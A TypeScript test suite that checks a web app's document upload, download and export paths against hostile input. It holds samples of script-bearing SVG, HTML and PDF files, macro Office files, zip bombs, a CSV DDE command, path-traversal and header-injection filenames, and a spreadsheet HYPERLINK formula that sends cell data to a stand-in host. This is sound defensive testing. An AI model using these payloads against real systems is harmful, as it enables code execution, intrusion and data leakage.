import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { deflateRawSync } from 'node:zlib'
import type { LightMyRequestResponse } from 'fastify'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { sessionCookie } from '../../src/doors/http/sessions.ts'
import { actionNamed, askFor, routed, type ServedWorld, serveWorld } from './served-world.ts'

// Files that come in by the address where documents are sent, and tables and calendars that go out with what others wrote.

let world: ServedWorld
let session: string
before(async () => {
  world = await serveWorld()
  session = await world.sessionOf('mei')
})
after(() => world.close())

const boundary = '----files'
/** The form as a browser sends it; `name` goes into its header as it is. */
const formOf = (name: string, content: string | Uint8Array) =>
  Buffer.concat([
    Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\n`),
    Buffer.from('content-type: application/pdf\r\n\r\n'),
    Buffer.from(content),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ])
const send = (payload: Buffer | string, type = `multipart/form-data; boundary=${boundary}`) =>
  world.app.inject({
    ...{ method: 'POST', url: `/api/v1/cases/${world.theirs['case']}/documents`, payload },
    headers: { 'sec-fetch-site': 'same-origin', cookie: `${sessionCookie}=${session}`, 'content-type': type },
  })
const fetched = (document: string) =>
  askFor(world.app, actionNamed('fetch-document'), { input: { case: world.theirs['case'], document }, session })
const held = () => (existsSync(join(world.files, '.incoming')) ? readdirSync(join(world.files, '.incoming')) : [])

const kind = (main: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.${main}.main+xml"/></Types>`
const office = (main: string, parts: Readonly<Record<string, Uint8Array>>) =>
  zipSync({ '[Content_Types].xml': strToU8(kind(main)), ...parts })
const [word, sheet] = ['wordprocessingml.document', 'spreadsheetml.sheet']
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024)
const png = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000049454e44ae426082',
  'hex',
)

/** A zip whose one part says that it is small, and unpacks to very much. */
function lyingZip(): Buffer {
  const packed = deflateRawSync(zeros(200))
  const name = Buffer.from('xl/worksheets/sheet1.xml')
  const sizes = Buffer.alloc(12)
  sizes.writeUInt32LE(packed.length, 4)
  sizes.writeUInt32LE(1000, 8)
  const common = Buffer.concat([
    Buffer.from([20, 0, 0, 0, 8, 0, 0, 0, 0, 0]),
    sizes,
    Buffer.from([name.length, 0, 0, 0]),
  ])
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, name, packed])
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), common, Buffer.alloc(14), name])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

describe('a file that is meant to do harm', () => {
  const refused: Readonly<Record<string, readonly [name: string, content: () => string | Uint8Array]>> = {
    'a drawing with a script': ['logo.svg', () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    'a page': ['a.html', () => '<html><script>alert(1)</script>'],
    'a page with a second ending': ['a.html.pdf', () => '<html><script>alert(1)</script>'],
    'a page before a PDF': ['a.pdf', () => '<html><script>alert(1)</script>\n%PDF-1.7\n%%EOF'],
    'a page that ends as a picture': ['a.png', () => Buffer.concat([Buffer.from('<html><script>1</script>'), png])],
    'a PDF with a script': [
      'a.pdf',
      () => '%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF',
    ],
    'a Word file with macros': [
      'a.docx',
      () => office(word, { 'word/document.xml': strToU8('<w:document/>'), 'word/vbaProject.bin': strToU8('x') }),
    ],
    'a workbook with macros': [
      'a.xlsx',
      () => office(sheet, { 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/vbaProject.bin': strToU8('x') }),
    ],
    'a Word file that unpacks to very much': ['a.docx', () => office(word, { 'word/document.xml': zeros(200) })],
    'a workbook that unpacks to very much': ['a.xlsx', () => office(sheet, { 'xl/worksheets/sheet1.xml': zeros(200) })],
    'one that lies about how much': ['a.xlsx', lyingZip],
    'a macro table by another name': ['a.csv', () => "name\n=cmd|'/c calc'!A0"],
    'a program': ['a.pdf', () => Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
  }
  for (const [says, [name, content]] of Object.entries(refused)) {
    test(`${says} is not taken in, and nothing of it is left`, async () => {
      const form = formOf(name, content())
      const since = Date.now()
      const reply = await send(form)
      assert.ok([415, 422].includes(reply.statusCode), `${reply.statusCode} ${reply.body}`)
      assert.match(reply.json().code as string, /^documents\//)
      assert.ok(Date.now() - since < 20_000)
      assert.deepEqual(held(), [])
    })
  }

  test('a picture with a page behind it comes back as a picture to be saved, and runs nowhere', async () => {
    const sent = await send(formOf('a.png', Buffer.concat([png, Buffer.from('<html><script>alert(1)</script>')])))
    if (sent.statusCode !== 200) return assert.match(sent.json().code as string, /^documents\//)
    const reply = await fetched(sent.json().document as string)
    assert.equal(reply.headers['content-type'], 'image/png')
    assertInert(reply)
  })

  const names = [
    '../../../etc/cron.d/x.txt',
    '..\\..\\x.txt',
    '/etc/passwd.txt',
    'C:\\autoexec.txt',
    'a%00.txt',
    'evil\u202Etxt.txt',
    'a"; filename=b.html; x=".txt',
    '<img src=x onerror=alert(1)>.txt',
    `${'長'.repeat(300)}.txt`,
    '.txt',
    '=1+1.txt',
  ]
  for (const name of names) {
    test(`the name “${name.slice(0, 40)}” leads nowhere, and comes back as a plain name`, async () => {
      const sent = await send(formOf(name.replaceAll('"', '%22'), 'text'))
      if (sent.statusCode !== 200)
        return assert.ok(
          sent.statusCode < 500 && sent.json<{ code: string }>().code.startsWith('documents/'),
          sent.body,
        )
      const reply = await fetched(sent.json().document as string)
      const disposition = String(reply.headers['content-disposition'])
      assert.match(disposition, /^attachment; filename="[\w.-]*"; filename\*=UTF-8''[^;\s"<>\\/]*$/)
      assert.doesNotMatch(decodeURIComponent(disposition), /[/\\<>\u202E\0]/)
      assertInert(reply)
    })
  }

  test('a form that is none is refused', async () => {
    const part = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.txt"\r\n\r\ntext`
    const many = Array.from(
      { length: 500 },
      (_, i) => `--${boundary}\r\ncontent-disposition: form-data; name="f${i}"\r\n\r\nx\r\n`,
    )
    const forms = [
      part,
      '',
      '--',
      `${many.join('')}--${boundary}--`,
      `--${boundary}\r\n\r\n\r\n--${boundary}--`,
      part.replace('"file"', '"__proto__"'),
    ]
    for (const form of forms) {
      const reply = await send(form)
      assert.ok(
        reply.statusCode >= 400 && reply.statusCode < 500,
        `${reply.statusCode} ${reply.body} ${form.slice(0, 100)}`,
      )
    }
    for (const type of [
      'multipart/form-data',
      'multipart/form-data; boundary=',
      `multipart/mixed; boundary=${boundary}`,
    ]) {
      const reply = await send(formOf('a.txt', 'text'), type)
      assert.ok(reply.statusCode >= 400 && reply.statusCode < 500, `${type}: ${reply.statusCode} ${reply.body}`)
    }
    assert.deepEqual(held(), [])
  })
})

function assertInert({ headers, statusCode }: LightMyRequestResponse): void {
  assert.equal(statusCode, 200)
  assert.match(String(headers['content-disposition']), /^attachment;/)
  assert.equal(headers['x-content-type-options'], 'nosniff')
  assert.match(String(headers['content-security-policy']), /^sandbox; default-src 'none'/)
}

describe('what others wrote', () => {
  const formula = '=HYPERLINK("http://x.example/?"&A1,"press")'
  const script = '"><script>alert(1)</script>'
  const lines = 'first\r\nATTACH:http://x.example/\r\nEND:VEVENT'

  before(async () => {
    const done = async (name: string, input: Readonly<Record<string, unknown>>) => {
      const reply = await askFor(world.app, actionNamed(name), { input, session })
      return reply.statusCode === 200 ? reply.json<Record<string, string>>() : assert.fail(`${name}: ${reply.body}`)
    }
    await done('change-me', { name: formula })
    const { id } = await done('create-member', {
      place: 'HK',
      name: { en: formula, 'zh-Hant': script, 'zh-Hans': '+1+1' },
    })
    await done('create-member', { place: 'HK', name: { en: '@SUM(1)', 'zh-Hant': '-2+3', 'zh-Hans': `${script}'` } })
    const at = { organisation: id, kind: 'enquiry', office: 'HK', consents: true }
    await done('start-case', { ...at, text: `${formula} ${script} ${lines}` })
    await done('say-in-case', { case: world.theirs['case'], text: lines, to: ['office'] })
    const asked = await askFor(world.app, actionNamed('add-task'), {
      input: { case: world.theirs['case'], says: lines, party: 'applicant', due: '2027-01-05' },
      session: await world.sessionOf('ho'),
    })
    assert.equal(asked.statusCode, 200, asked.body)
  })

  test('is no formula in any table that goes out', async () => {
    let seen = 0
    for (const [name, input] of [
      ['export-members', {}],
      ['export-my-data', {}],
      ['export-member', { organisation: world.theirs['organisation'] }],
    ] as const) {
      const action = actionNamed(name)
      for (const format of Object.keys(action.files ?? {})) {
        const reply = await askFor(world.app, action, { input, session, format })
        assert.equal(reply.statusCode, 200, `${name}.${format}: ${reply.body.slice(0, 300)}`)
        for (const [file, text] of textsOf(format, reply)) {
          if (text.includes('HYPERLINK')) seen += 1
          if (file.endsWith('.csv'))
            assert.doesNotMatch(text.replace(/^\uFEFF/, ''), /(^|[\n,;\t])"?[\t ]*(=|@|\+1|-2\+)/m, `${name} ${file}`)
          if (file.endsWith('.xml')) assert.doesNotMatch(text, /<f[ >]/, `${name} ${file}`)
          if (file.endsWith('.xml')) assert.doesNotMatch(text, /<script>/, `${name} ${file}`)
        }
      }
    }
    assert.ok(seen >= 3, `the formula was seen in ${seen} tables`)
  })
  test('begins no line of its own in a calendar', async () => {
    const { address } = (await askFor(world.app, actionNamed('open-calendar'), { input: {}, session })).json<{
      address: string
    }>()
    const own = await world.app.inject(new URL(address).pathname)
    const ofCase = await askFor(world.app, actionNamed('case-calendar'), {
      input: { case: world.theirs['case'] },
      session,
      format: 'ics',
    })
    for (const reply of [own, ofCase]) {
      assert.equal(reply.statusCode, 200, reply.body)
      assert.match(reply.body, /BEGIN:VEVENT/)
      assert.doesNotMatch(reply.body, /^ATTACH/m)
      assert.equal(reply.body.match(/^BEGIN:VEVENT/gm)?.length, reply.body.match(/^END:VEVENT/gm)?.length)
    }
  })
  test('is sent as JSON or as a file of its form, never as a page', async () => {
    for (const action of routed.filter(({ http, kind }) => kind === 'read' && http?.startsWith('GET ') === true)) {
      const reply = await askFor(world.app, action, { input: { ...world.theirs }, session })
      assert.doesNotMatch(String(reply.headers['content-type']), /html/, action.name)
    }
  })
})

/** The texts of a file that goes out, by the names of its parts. */
function textsOf(format: string, reply: LightMyRequestResponse): readonly (readonly [string, string])[] {
  if (format === 'csv') return [['a.csv', reply.body]]
  return Object.entries(unzipSync(reply.rawPayload)).map(([name, bytes]) => [name, strFromU8(bytes)] as const)
}
